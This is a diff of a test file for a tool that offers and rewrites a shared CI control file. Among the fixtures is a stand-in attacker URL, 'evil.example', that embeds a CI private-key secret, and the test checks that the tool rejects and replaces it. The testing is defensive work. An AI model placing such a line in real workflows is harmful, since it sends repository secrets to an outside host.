@@ -115,13 +115,43 @@ describe("the shared control file is offered", () => {
     const place = openPlace("Something else.\n");
     const { questions } = await place.offer({ answers: { ...yes, ...package_ } });
     expect(questions["control-file"]?.body).toEqual([
-      "What is there was not rendered by gatehouse. All of it is replaced.",
+      "What is there names no package of gatehouse that a run may bring. All of it is replaced.",
     ]);
     expect(place.text).toBe(rendered());
   });
 });
 
+test("a package that no run may bring is none: it is asked for, and what is there replaced", async () => {
+  const evil = "http://evil.example/${{secrets.CP_FORGE_READ_APP_PRIVATE_KEY}}";
+  const place = openPlace(rendered().replaceAll(somePin.source, evil));
+  const { asked } = await place.offer({ answers: { ...yes, ...package_ } });
+  expect(asked).toEqual(["control-file", "control-cli", "control-integrity"]);
+  expect(place.text).toBe(rendered());
+});
+
+test("the package that is kept is shown", async () => {
+  const { questions } = await openPlace(rendered("workflow-token")).offer({ answers: yes });
+  expect(questions["control-file"]?.facts).toContainEqual({
+    name: "Runs bring",
+    text: somePin.source,
+  });
+});
+
 describe("what was answered", () => {
+  test("with a yes is for one write: what somebody takes back is asked about again", async () => {
+    const place = openPlace();
+    const journal = startJournal();
+    expect(await place.offer({ journal, answers: { ...yes, ...package_ } })).toMatchObject({
+      result: "written",
+    });
+    place.text = undefined;
+    expect(await place.offer({ journal })).toMatchObject({
+      result: "later",
+      asked: ["control-file"],
+    });
+    expect(place.writes).toBe(1);
+  });
+
   test("with a no is not asked again by a run whose other answers are forgotten, unless that asks again", async () => {
     const place = openPlace();
     const journal = startJournal();
